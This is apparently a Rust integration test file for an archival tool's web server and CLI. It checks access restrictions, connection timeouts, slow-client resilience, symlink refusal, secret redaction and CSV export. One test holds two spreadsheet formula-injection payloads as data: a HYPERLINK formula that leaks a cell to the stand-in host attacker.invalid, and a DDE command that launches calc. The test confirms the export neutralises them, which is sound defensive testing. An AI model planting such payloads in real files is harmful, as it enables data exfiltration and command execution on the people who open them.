//! Scenarios: serve (issue 28, items 3 and 7 and the minor ones): the web server obeys
//! the register even after a crashed amend, bounds its connections in time and number,
//! stops within its deadline, hides restricted items' digests, and refuses a bag folder
//! replaced by a symlink.

use crate::common::serve as web;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::time::{Duration, Instant};

use web::{build_archive, cairn, connect_from, Server};

/// The register entry of `id`, parsed.
fn entry(root: &Path, id: &str) -> serde_json::Value {
    let path = root.join("manifests").join(format!("{id}.json"));
    serde_json::from_slice(&std::fs::read(path).expect("entry")).expect("entry JSON")
}

/// An item that is not restricted (the generator restricts some).
fn open_item(root: &Path) -> String {
    (1..20)
        .map(|i| format!("cairn-{i:06}"))
        .find(|id| {
            let e = entry(root, id);
            !e.to_string().to_lowercase().contains("restricted")
        })
        .expect("an open item")
}

/// An archive of `n` generated items under `serve --serve-files`, one open item's
/// identifier and the URL of its first file, served (200).
fn serving_an_open_item(
    label: &str,
    n: usize,
) -> (
    tempfile::TempDir,
    std::path::PathBuf,
    String,
    Server,
    String,
) {
    let tmp = crate::common::fresh_dir(label);
    let root = tmp.path().join("archive");
    build_archive(&root, n);
    let id = open_item(&root);
    let server = Server::start(&root, &["--serve-files"]);
    let url = format!("/items/{id}/files/0");
    assert_eq!(server.get(&url).status, 200, "served at first");
    (tmp, root, id, server, url)
}

#[test]
fn a_crashed_amend_that_restricts_an_item_stops_its_files_at_once() {
    let (_tmp, root, id, server, url) = serving_an_open_item("serve-amend", 4);
    // The amend is killed after the new register entry and before its event.
    let out = crate::common::cairn()
        .args(["amend", &id, "--set", "dcterms.accessRights=restricted"])
        .args(["--reason", "closed at the donor's request"])
        .arg("--root")
        .arg(&root)
        .env("CAIRN_FAILPOINT", "amend-after-register")
        .output()
        .expect("amend runs");
    assert_eq!(out.status.code(), None, "the failpoint fired: {out:?}");
    assert!(entry(&root, &id).to_string().contains("restricted"));
    // No recovery has run and no log line names the change: the register is obeyed.
    let r = server.get(&url);
    assert_eq!(r.status, 403, "a restricted item's file: {}", r.text());
    let page = server.get(&format!("/items/{id}")).text();
    assert!(page.contains("Restricted"), "{page}");
    // The list follows too: the register's folder changed, the entry is a new file.
    let list = server.get("/items").text();
    assert!(list.contains("(restricted)"), "{list}");
}

/// Sets `[serve] KEY = VALUE` in the archive's cairn.toml (the template lists every
/// key of the section, so the line is replaced).
fn set_serve(root: &Path, key: &str, value: &str) {
    let path = root.join("cairn.toml");
    let text = std::fs::read_to_string(&path).expect("cairn.toml");
    let mut found = false;
    let out: Vec<String> = text
        .lines()
        .map(|l| {
            if l.starts_with(&format!("{key} =")) {
                found = true;
                format!("{key} = {value}")
            } else {
                l.to_string()
            }
        })
        .collect();
    assert!(found, "{key} is in the cairn.toml template");
    std::fs::write(&path, out.join("\n") + "\n").expect("write cairn.toml");
}

/// Sends GET `target` on `s` and reads the response head within `wait`: its status,
/// or `None` when none came in time.
fn status_within(mut s: TcpStream, target: &str, wait: Duration) -> Option<u16> {
    s.set_read_timeout(Some(wait)).ok()?;
    s.write_all(
        format!("GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").as_bytes(),
    )
    .ok()?;
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    let head = String::from_utf8_lossy(&raw);
    head.split_whitespace().nth(1)?.parse().ok()
}

/// How long until the server closes `s` (reads return end of file or an error other
/// than a timeout), at most `wait`: `None` if it is still open then.
fn closed_within(s: &mut TcpStream, wait: Duration) -> Option<Duration> {
    let t0 = Instant::now();
    s.set_read_timeout(Some(Duration::from_millis(200))).ok()?;
    let mut buf = [0u8; 4096];
    while t0.elapsed() < wait {
        match s.read(&mut buf) {
            Ok(0) => return Some(t0.elapsed()),
            Ok(_) => {}
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => return Some(t0.elapsed()),
        }
    }
    None
}

#[test]
fn half_sent_headers_and_idle_connections_are_closed_after_the_header_timeout() {
    let tmp = crate::common::fresh_dir("serve-timeout");
    let root = tmp.path().join("archive");
    build_archive(&root, 2);
    set_serve(&root, "header_timeout_secs", "1");
    let server = Server::start(&root, &[]);
    // Half-sent headers.
    let mut half = TcpStream::connect(server.addr).expect("connect");
    half.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n")
        .expect("send");
    // Nothing sent at all.
    let mut silent = TcpStream::connect(server.addr).expect("connect");
    // A keep-alive connection, idle after its first response.
    let mut kept = TcpStream::connect(server.addr).expect("connect");
    kept.write_all(b"GET /items HTTP/1.1\r\nHost: x\r\n\r\n")
        .expect("send");
    kept.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    let mut first = [0u8; 12];
    kept.read_exact(&mut first).expect("a response");
    assert_eq!(&first, b"HTTP/1.1 200");
    for (what, s) in [
        ("half-sent headers", &mut half),
        ("a silent connection", &mut silent),
        ("an idle keep-alive connection", &mut kept),
    ] {
        let after = closed_within(s, Duration::from_secs(6));
        assert!(
            after.is_some_and(|d| d < Duration::from_secs(4)),
            "{what}: closed after {after:?}, the header timeout is 1 s"
        );
    }
    // The server still answers.
    assert_eq!(server.get("/").status, 200);
}

#[test]
fn slow_clients_from_one_address_do_not_block_another_under_a_low_file_limit() {
    let tmp = crate::common::fresh_dir("serve-slow");
    let root = tmp.path().join("archive");
    build_archive(&root, 2);
    // `cairn serve` under `ulimit -n 100`, as the review ran it.
    let mut child = crate::common::hermetic(&mut std::process::Command::new("sh"))
        .arg("-c")
        .arg("ulimit -n 100 && exec \"$0\" \"$@\"")
        .arg(web::cairn_bin())
        .args(["serve", "--bind", "127.0.0.1:0", "--root"])
        .arg(&root)
        .env_remove("CAIRN_ROOT")
        .env_remove("CAIRN_FAILPOINT")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("start cairn serve");
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().expect("stdout")),
        &mut line,
    )
    .expect("the listening line");
    let addr: SocketAddr = line
        .trim()
        .strip_prefix("listening on http://")
        .and_then(|r| r.strip_suffix('/'))
        .and_then(|a| a.parse().ok())
        .unwrap_or_else(|| panic!("unexpected first line {line:?}"));
    let pid = child.id();
    let server = Server { child, addr, pid };
    // 150 half-sent requests from 127.0.0.1 (more than the server's file limit).
    let mut slow = Vec::new();
    for _ in 0..150 {
        let mut s = TcpStream::connect(server.addr).expect("connect");
        let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n");
        slow.push(s);
    }
    std::thread::sleep(Duration::from_millis(300));
    // A normal request from another address is answered at once.
    let t0 = Instant::now();
    let status = status_within(
        connect_from("127.0.0.2", server.addr),
        "/",
        Duration::from_secs(5),
    );
    assert_eq!(
        status,
        Some(200),
        "a normal request beside 150 slow ones (after {:?})",
        t0.elapsed()
    );
    drop(slow);
}

#[test]
fn sigterm_stops_the_server_within_its_deadline_whatever_the_clients_do() {
    let tmp = crate::common::fresh_dir("serve-term");
    let root = tmp.path().join("archive");
    build_archive(&root, 2);
    let mut server = Server::start(&root, &[]);
    // An idle client, a half-sent request and an idle keep-alive connection, under the
    // default header timeout (10 s, longer than the shutdown deadline of 5 s).
    let _idle = TcpStream::connect(server.addr).expect("connect");
    let mut half = TcpStream::connect(server.addr).expect("connect");
    half.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n")
        .expect("send");
    let mut kept = TcpStream::connect(server.addr).expect("connect");
    kept.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        .expect("send");
    let mut first = [0u8; 12];
    kept.read_exact(&mut first).expect("a response");
    std::thread::sleep(Duration::from_millis(200));
    let t0 = Instant::now();
    let killed = std::process::Command::new("kill")
        .args(["-TERM", &server.pid.to_string()])
        .status()
        .expect("kill");
    assert!(killed.success());
    let mut exit = None;
    while t0.elapsed() < Duration::from_secs(12) {
        if let Ok(Some(status)) = server.child.try_wait() {
            exit = Some((status, t0.elapsed()));
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let (status, after) = exit.expect("the server stopped within 12 s of SIGTERM");
    assert!(
        after < Duration::from_millis(7500),
        "stopped {after:?} after SIGTERM; the deadline is 5 s (and 0.5 s for reads under way)"
    );
    assert_eq!(status.code(), Some(0), "a clean stop");
}

#[test]
fn restricted_items_pages_show_no_digests_unless_configured() {
    let tmp = crate::common::fresh_dir("serve-digests");
    let root = tmp.path().join("archive");
    build_archive(&root, 8);
    let restricted = (1..=8)
        .map(|i| format!("cairn-{i:06}"))
        .find(|id| entry(&root, id).to_string().contains("restricted"))
        .expect("a restricted item");
    let open = open_item(&root);
    let digest_of = |id: &str| {
        entry(&root, id)["files"][0]["digests"]["blake3"]
            .as_str()
            .unwrap_or_else(|| panic!("a BLAKE3 digest in {id}'s entry"))
            .to_string()
    };
    {
        let server = Server::start(&root, &[]);
        let page = server.get(&format!("/items/{restricted}")).text();
        assert!(page.contains("Restricted"), "{page}");
        assert!(
            !page.contains(&digest_of(&restricted)),
            "a restricted item's page shows a digest"
        );
        let page = server.get(&format!("/items/{open}")).text();
        assert!(page.contains(&digest_of(&open)), "an open item's digests");
    }
    set_serve(&root, "restricted_digests", "true");
    let server = Server::start(&root, &[]);
    let page = server.get(&format!("/items/{restricted}")).text();
    assert!(
        page.contains(&digest_of(&restricted)),
        "shown when configured"
    );
}

#[test]
fn a_bag_folder_replaced_by_a_symlink_is_refused_by_serve_fixity_and_export() {
    let (tmp, root, id, server, url) = serving_an_open_item("serve-symlink", 3);
    // The bag folder moved out of the archive and a symlink put in its place: the
    // bytes are the same, but the archive's bag is no longer a folder of the archive.
    let bag = root.join("archive").join(&id);
    let outside = tmp.path().join("elsewhere");
    std::fs::rename(&bag, &outside).expect("move the bag out");
    std::os::unix::fs::symlink(&outside, &bag).expect("symlink");
    let r = server.get(&url);
    assert_ne!(r.status, 200, "a running server follows the symlink");
    drop(server);
    let fresh = Server::start(&root, &["--serve-files"]);
    assert_ne!(fresh.get(&url).status, 200, "a new server follows it");
    assert_eq!(fresh.get(&format!("/items/{id}")).status, 404);
    // fixity --id: the bag is missing (as audit says), naming the symlink.
    let out = crate::common::cairn()
        .args(["fixity", "--id", &id, "--root"])
        .arg(&root)
        .output()
        .expect("fixity");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("symbolic link"), "{text}");
    // export: refused, nothing written.
    let zip = tmp.path().join("out.zip");
    let out = crate::common::cairn()
        .args(["export", &id, "--zip"])
        .arg(&zip)
        .arg("--root")
        .arg(&root)
        .output()
        .expect("export");
    let text = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(0), "{text}");
    assert!(text.contains("symbolic link"), "{text}");
    assert!(!zip.exists());
}

/// A new archive with nothing in it: the temporary folder and the archive's root.
fn empty_archive(label: &str) -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = crate::common::fresh_dir(label);
    let root = tmp.path().join("archive");
    let out = crate::common::cairn()
        .arg("init")
        .arg(&root)
        .output()
        .expect("init");
    assert!(out.status.success(), "{out:?}");
    (tmp, root)
}

#[test]
fn report_csv_writes_formula_titles_as_text() {
    let (_tmp, root) = empty_archive("report-csv");
    let intake = root.join("intake");
    std::fs::write(intake.join("a.txt"), "Sample: synthetic note one\n").expect("write");
    std::fs::write(intake.join("b.txt"), "Sample: synthetic note two\n").expect("write");
    let link = "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"click\")";
    let sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    let mut csv = csv::Writer::from_path(intake.join("metadata.csv")).expect("csv");
    csv.write_record(["filename", "dc.title", "dc.date", "dc.type", "dc.language"])
        .expect("csv");
    csv.write_record(["a.txt", link, "1979", "Text", "en"])
        .expect("csv");
    csv.write_record(["b.txt", sum, "1979", "Text", "en"])
        .expect("csv");
    csv.flush().expect("csv");
    drop(csv);
    cairn(&root, &["ingest", "--quiet"], 0);
    let text = cairn(&root, &["report", "--csv"], 0);
    let mut titles: Vec<String> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV row")[1].to_string())
        .collect();
    titles.sort();
    assert_eq!(
        titles,
        vec![format!("'{link}"), format!("'{sum}")],
        "{text}"
    );
}

#[test]
fn credentials_in_a_replica_url_are_refused_and_never_echoed() {
    let (_tmp, root) = empty_archive("replica-creds");
    let toml = root.join("cairn.toml");
    let plain = std::fs::read_to_string(&toml).expect("cairn.toml");
    let secret = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYzEXAMPLEKEY";
    let run = |env: &[(&str, &str)]| {
        let mut cmd = crate::common::cairn();
        cmd.args(["config", "--root"]).arg(&root);
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = cmd.output().expect("cairn config");
        (
            out.status.code(),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        )
    };
    for (url, endpoint) in [
        (
            format!("s3://AKIAEXAMPLE:{secret}@garage.invalid/bucket"),
            String::new(),
        ),
        (
            "s3://bucket/s21".to_string(),
            format!("https://admin:{secret}@127.0.0.1:3900"),
        ),
    ] {
        std::fs::write(
            &toml,
            format!(
                "{plain}\n[[replica]]\nname = \"offsite\"\nurl = \"{url}\"\nendpoint = \"{endpoint}\"\n"
            ),
        )
        .expect("write cairn.toml");
        let (code, text) = run(&[]);
        assert_ne!(code, Some(0), "{url} {endpoint}: accepted\n{text}");
        assert!(!text.contains(secret), "the secret is echoed:\n{text}");
        assert!(
            text.contains("CAIRN_REPLICA_OFFSITE_ACCESS_KEY_ID"),
            "says where credentials belong:\n{text}"
        );
    }
    // The same through the environment's URL override.
    std::fs::write(
        &toml,
        format!("{plain}\n[[replica]]\nname = \"offsite\"\nurl = \"s3://bucket/p\"\n"),
    )
    .expect("write cairn.toml");
    let (code, text) = run(&[(
        "CAIRN_REPLICA_OFFSITE_URL",
        &format!("s3://AKIAEXAMPLE:{secret}@bucket/p"),
    )]);
    assert_ne!(code, Some(0), "{text}");
    assert!(!text.contains(secret), "the secret is echoed:\n{text}");
}

/// An archive (tests/it/life.rs) whose cairn-000002 was revised once: version 1 is kept in
/// archive/.versions/cairn-000002/.
fn revised_archive(label: &str) -> (tempfile::TempDir, std::path::PathBuf) {
    use crate::life::{expect, make_archive};
    let tmp = crate::common::fresh_dir(label);
    let root = tmp.path().join("arc");
    make_archive(&root, 1);
    let from = tmp.path().join("new-content");
    std::fs::create_dir(&from).expect("mkdir");
    std::fs::write(from.join("b-note.txt"), "Sample: a corrected note\n").expect("write");
    expect(
        &root,
        [
            "revise".as_ref(),
            "cairn-000002".as_ref(),
            "--from".as_ref(),
            from.as_os_str(),
            "--reason".as_ref(),
            "a corrected page".as_ref(),
        ],
        0,
    );
    expect(&root, ["fixity", "--id", "cairn-000002"], 0);
    (tmp, root)
}

/// A kept version's folder replaced by a symbolic link is refused by fixity, as the
/// current bag's is: a finding naming the link, never followed.
#[test]
fn a_kept_version_replaced_by_a_symlink_is_a_finding() {
    let (tmp, root) = revised_archive("serve-kept-link");
    let kept = root.join("archive/.versions/cairn-000002");
    let version = std::fs::read_dir(&kept)
        .expect("kept versions")
        .flatten()
        .map(|e| e.path())
        .next()
        .expect("version 1 is kept");
    let elsewhere = tmp.path().join("elsewhere");
    std::fs::rename(&version, &elsewhere).expect("move it away");
    std::os::unix::fs::symlink(&elsewhere, &version).expect("symlink");
    let out = crate::life::expect(&root, ["fixity", "--id", "cairn-000002"], 1);
    let all = format!("{}{}", out.stdout, out.stderr);
    assert!(all.contains("symbolic link"), "{}", out.describe());
}

/// A kept version's folder deleted is seen by the next check of the item.
#[test]
fn a_kept_version_deleted_is_a_finding() {
    let (_tmp, root) = revised_archive("serve-kept-gone");
    std::fs::remove_dir_all(root.join("archive/.versions/cairn-000002")).expect("rm");
    let out = crate::life::expect(&root, ["fixity", "--id", "cairn-000002"], 1);
    let all = format!("{}{}", out.stdout, out.stderr);
    assert!(
        all.contains("version 1 of cairn-000002 is gone"),
        "{}",
        out.describe()
    );
}
